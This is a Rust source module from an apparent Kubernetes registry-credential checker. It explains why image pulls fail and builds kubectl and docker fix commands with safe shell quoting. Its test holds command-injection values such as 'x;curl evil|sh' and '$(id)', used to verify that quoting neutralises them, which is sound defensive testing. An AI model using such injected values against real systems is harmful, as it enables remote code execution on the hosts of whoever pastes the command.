//! Reasons and fixes in words. Nothing here ever holds a secret: commands name a place where the person puts the token.

use std::collections::BTreeSet;
use std::sync::Arc;

use chrono::{DateTime, Utc};

use super::{CredentialRow, Outlook, gaps};
use crate::verdict::Status;
use crate::workload::{Pull, SecretSource, WorkloadKey};

/// A credential that fails for an image.
#[derive(Debug)]
pub(super) struct Failing {
    pub(super) secret: Arc<str>,
    pub(super) registry: Arc<str>,
    pub(super) username: Arc<str>,
    /// Whether its Secret is of the type `kubernetes.io/dockercfg`.
    pub(super) legacy: bool,
    /// Whether its Secret holds other credentials too.
    pub(super) others: bool,
    pub(super) status: Status,
}

/// What is in the way of a pull.
#[derive(Debug)]
pub(super) enum Cause {
    ImageDoesNotParse(String),
    /// A Secret that fails every lookup of the pod.
    Malformed(Arc<str>),
    /// A Secret that the manifests do not hold.
    Unseen(Arc<str>),
    /// A Secret that holds more credentials than are looked at.
    Unread(Arc<str>),
    /// No credential matches, and an anonymous pull is denied.
    Uncovered {
        repository: String,
        /// A Secret of the namespace that would cover it.
        secret: Option<Arc<str>>,
    },
    /// The registry's host is not on the list.
    NotListed(String),
    /// No credential matches, and no anonymous pull was proven yet.
    AnonymousNotProven,
    /// These match, and none is proven for this image yet.
    NotProven(Vec<Arc<str>>),
    /// These match, and these shards ask about them.
    OfOtherShards(BTreeSet<(Arc<str>, u16)>),
    /// These match, in this order, and all of them fail.
    AllFail(Vec<Failing>),
}

/// Why an image does not pull, or is not known to, and what to do.
pub(super) fn explain(key: &WorkloadKey, pull: &Pull, cause: &Cause) -> (String, String) {
    let (image, namespace) = (&pull.image, &pull.namespace);
    match cause {
        Cause::ImageDoesNotParse(error) => {
            (format!("{image} is no image name: {error}"), format!("mend the image name: {}", edit(key)))
        }
        Cause::Malformed(secret) => (
            format!("the Secret {secret} cannot be decoded, which fails every image of a pod that names it"),
            format!("write it anew: {}", create(namespace, secret, registry_of(image), "USER", true)),
        ),
        Cause::Unseen(secret) => (
            format!("{image}: the Secret {secret} is not among the objects that were read, so nothing is known of it"),
            format!("kubectl -n {} get secret {}", quoted(namespace), quoted(secret)),
        ),
        Cause::Unread(secret) => (
            format!(
                "{image}: with the Secret {secret} the pod has more credentials than are looked at, so it is not known which one works"
            ),
            "keep in its Secrets only the registries that the pod pulls from".to_owned(),
        ),
        Cause::Uncovered { repository, secret } => (
            format!(
                "{image}: no credential matches, and an anonymous pull of {repository} is denied{}",
                gaps::why_no_credential(key, pull)
            ),
            cover(key, pull, secret.as_deref(), registry_of(repository)),
        ),
        Cause::NotListed(host) => (
            format!("{image}: {host} is not on the list of registries, so it was not asked"),
            format!("add `host: {host}` to `registries` in the config file, or pass --registry {}", quoted(host)),
        ),
        Cause::AnonymousNotProven => (
            format!("{image}: no credential matches, and whether it can be pulled anonymously is not proven yet"),
            String::new(),
        ),
        Cause::NotProven(secrets) => {
            (format!("{image}: not proven yet with {}", list(secrets.iter().map(AsRef::as_ref))), String::new())
        }
        Cause::OfOtherShards(secrets) => {
            let each = secrets.iter().map(|(secret, shard)| format!("{secret} (shard {shard})"));
            (format!("{image}: not proven here, since other processes ask about {}", list(each)), String::new())
        }
        Cause::AllFail(failing) => {
            let each = failing.iter().map(|one| format!("{} ({})", one.secret, one.status.as_str()));
            let reason = format!(
                "{image}: every credential that matches fails: {}; the kubelet does not fall back to an anonymous pull",
                list(each)
            );
            let fix = failing.first().map_or_else(String::new, |one| {
                let at = Place {
                    namespace,
                    secret: &one.secret,
                    registry: &one.registry,
                    username: &one.username,
                    legacy: one.legacy,
                    others: one.others,
                };
                mend(one.status, &at, &[registry_and_path(image)])
            });
            (reason, fix)
        }
    }
}

/// The reason and the fix of a workload: those of its worst image, and how many more there are.
pub(super) fn join(outlook: Outlook, causes: Vec<(Outlook, String, String)>) -> (String, String) {
    let mut all: Vec<(String, String)> = Vec::new();
    for (_, reason, fix) in causes.into_iter().filter(|(of, ..)| *of == outlook) {
        if !all.iter().any(|(known, _)| *known == reason) {
            all.push((reason, fix));
        }
    }
    let more = all.len().saturating_sub(1);
    let Some((mut reason, fix)) = all.into_iter().next() else { return Default::default() };
    if more > 0 {
        reason = format!("{reason} (and {more} more of its images)");
    }
    (reason, fix)
}

/// Where a credential stands.
struct Place<'a> {
    namespace: &'a str,
    secret: &'a str,
    registry: &'a str,
    username: &'a str,
    legacy: bool,
    others: bool,
}

/// What mends a credential in a status; `denied` are the repositories that it is refused.
fn mend(status: Status, at: &Place<'_>, denied: &[&str]) -> String {
    let write = || {
        let user = if at.username.is_empty() || at.username == "redacted" { "USER" } else { at.username };
        let command = create(at.namespace, at.secret, at.registry, user, at.legacy);
        if at.others { format!("{command} (its other entries go with that: write them again too)") } else { command }
    };
    match status {
        Status::Malformed => format!("write the Secret anew: {}", write()),
        Status::Anonymous => format!("write the Secret with a user name and a token: {}", write()),
        Status::Expired | Status::Rejected => format!("create a new token and write it into the Secret: {}", write()),
        Status::Unsupported => {
            format!(
                "create a classic personal access token with the scope read:packages and write it into the Secret: {}",
                write()
            )
        }
        Status::InsufficientScope => format!(
            "add the scope read:packages to the token where it was issued, or write another token into the Secret: {}",
            write()
        ),
        Status::Forbidden | Status::Valid => format!(
            "give the token's owner read access to {} at the registry, or authorise the token for the organisation's single sign-on",
            if denied.is_empty() { "the repository".to_owned() } else { list(denied.iter()) }
        ),
        Status::Ignored => {
            format!("add the host of {} to `registries` in the config file, or pass --registry", at.registry)
        }
        Status::Unverified => String::new(),
    }
}

/// The command that writes a Secret with one credential.
pub(super) fn create(namespace: &str, secret: &str, registry: &str, username: &str, replace: bool) -> String {
    let (namespace, secret) = (quoted(namespace), quoted(secret));
    let create = format!(
        "kubectl -n {namespace} create secret docker-registry {secret} --docker-server={} --docker-username={} \
         --docker-password=\"$NEW_TOKEN\"",
        quoted(registry),
        quoted(username)
    );
    if replace {
        format!("kubectl -n {namespace} delete secret {secret} && {create}")
    } else {
        format!("{create} --dry-run=client -o yaml | kubectl apply -f -")
    }
}

/// A text as one word of a shell. Names come from tenants, and a person pastes the command.
pub(super) fn quoted(text: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_.@:/+".contains(c);
    if !text.is_empty() && !text.starts_with('-') && text.chars().all(plain) {
        text.to_owned()
    } else {
        format!("'{}'", text.replace('\'', r"'\''"))
    }
}

pub(super) fn edit(key: &WorkloadKey) -> String {
    format!("kubectl -n {} edit {} {}", quoted(&key.namespace), quoted(&key.kind.to_lowercase()), quoted(&key.name))
}

/// How to name a Secret that covers an image.
fn cover(key: &WorkloadKey, pull: &Pull, secret: Option<&str>, registry: &str) -> String {
    let namespace = &pull.namespace;
    let name = secret.unwrap_or("NAME");
    let made = match secret {
        Some(secret) => format!("the Secret {secret} of this namespace would cover it"),
        None => format!("make a Secret: {}", create(namespace, name, registry, "USER", false)),
    };
    let named = gaps::where_to_name(key, pull, name).unwrap_or_else(|| match pull.source {
        SecretSource::ServiceAccount => format!(
            "name it in the ServiceAccount of the pods: {}",
            patch_account(namespace, &pull.service_account, name)
        ),
        _ => format!("name it in `imagePullSecrets`: {}", edit(key)),
    });
    format!("{made}; {named}")
}

/// The command that makes a `ServiceAccount` name a Secret.
pub(super) fn patch_account(namespace: &str, account: &str, secret: &str) -> String {
    format!(
        "kubectl -n {} patch serviceaccount {} -p {}",
        quoted(namespace),
        quoted(account),
        quoted(&serde_json::json!({ "imagePullSecrets": [{ "name": secret }] }).to_string())
    )
}

pub(super) fn list<T: AsRef<str>>(items: impl Iterator<Item = T>) -> String {
    let items: Vec<T> = items.collect();
    items.iter().map(AsRef::as_ref).collect::<Vec<_>>().join(", ")
}

/// The registry of an image or a repository, for a command.
pub(super) fn registry_of(image: &str) -> &str {
    match image.split_once('/') {
        Some((host, _)) if host.contains(['.', ':']) || host == "localhost" => host,
        _ => "docker.io",
    }
}

/// An image without its tag and digest, as written.
fn registry_and_path(image: &str) -> &str {
    let image = image.split_once('@').map_or(image, |(name, _)| name);
    match image.rsplit_once(':') {
        Some((name, tag)) if !tag.contains('/') => name,
        _ => image,
    }
}

/// What a status means, in one line; empty for one that works. `denied` are the repositories that are proven denied.
pub(super) fn status_reason(status: Status, expires_at: Option<DateTime<Utc>>, denied: &str, asked: bool) -> String {
    match status {
        Status::Malformed => "the kubelet cannot decode the Secret, and fails every pod that names it".to_owned(),
        Status::Anonymous => "user name or password is empty, so the runtime pulls without it".to_owned(),
        Status::Ignored => "its registry is not on the list, so it was not asked".to_owned(),
        Status::Expired => match expires_at {
            Some(at) => format!("the registry refuses it; it expired on {}", at.format("%Y-%m-%d %H:%M UTC")),
            None => "the registry refuses it, and it has expired".to_owned(),
        },
        Status::Rejected => "the registry refuses it: revoked, wrong, or expired without a known date".to_owned(),
        Status::Unsupported => "the registry does not take this kind of token for pulling".to_owned(),
        Status::InsufficientScope => "the login works, but the token lacks the scope read:packages".to_owned(),
        Status::Forbidden => format!("the login works, but it may not pull {denied}"),
        Status::Valid => String::new(),
        Status::Unverified if asked => "asked, but no answer so far proved anything".to_owned(),
        Status::Unverified => "not asked yet".to_owned(),
    }
}

impl CredentialRow {
    /// Why the credential has its status, in one line; empty for one that works.
    pub fn reason(&self) -> String {
        status_reason(self.status, self.expires_at, &list(self.denied.iter()), self.last_probe_at.is_some())
    }

    /// What to do about the status, in one line; empty where there is nothing to do.
    pub fn fix(&self) -> String {
        if matches!(self.status, Status::Valid | Status::Unverified) {
            return String::new();
        }
        let denied: Vec<&str> = self.denied.iter().map(AsRef::as_ref).collect();
        if self.secret_namespace.is_empty() {
            // A Docker `config.json`: there is no Secret to write.
            return match self.status {
                Status::Forbidden | Status::Ignored => mend_row(self, &self.username, &denied),
                // Docker writes an empty entry where a helper program keeps the password.
                Status::Anonymous => format!(
                    "take credsStore and credHelpers out of the file, which keep the password elsewhere, then: docker login {}",
                    quoted(&self.registry)
                ),
                _ => format!("docker login {}", quoted(&self.registry)),
            };
        }
        mend_row(self, &self.username, &denied)
    }
}

/// What mends a row, with a user name and as many of the denied repositories as the caller has room for.
pub(super) fn mend_row(row: &CredentialRow, username: &str, denied: &[&str]) -> String {
    mend_row_as(row.status, row, username, denied)
}

/// The same, as if the row had another status.
pub(super) fn mend_row_as(status: Status, row: &CredentialRow, username: &str, denied: &[&str]) -> String {
    let at = Place {
        namespace: &row.secret_namespace,
        secret: &row.secret_name,
        registry: if row.registry.is_empty() { "REGISTRY" } else { &row.registry },
        username,
        legacy: row.status == Status::Malformed,
        others: row.siblings > 0,
    };
    mend(status, &at, denied)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_cannot_run_anything_in_a_pasted_command() {
        for evil in ["x;curl evil|sh", "$(id)", "`id`", "a b", "it's", "a\nb", ""] {
            let at =
                Place { namespace: evil, secret: evil, registry: evil, username: evil, legacy: true, others: false };
            let command = mend(Status::Rejected, &at, &[]);
            let words = format!("'{}'", evil.replace('\'', r"'\''"));
            let outside = command.replace(&words, "").replace("\"$NEW_TOKEN\"", "");
            assert!(!outside.contains([';', '|', '$', '`', '\n']), "{evil:?}: {command}");
        }
    }

    #[test]
    fn a_command_that_drops_other_entries_says_so() {
        let at = Place { namespace: "a", secret: "s", registry: "ghcr.io", username: "u", legacy: false, others: true };
        assert!(mend(Status::Rejected, &at, &[]).contains("its other entries"));
    }
}
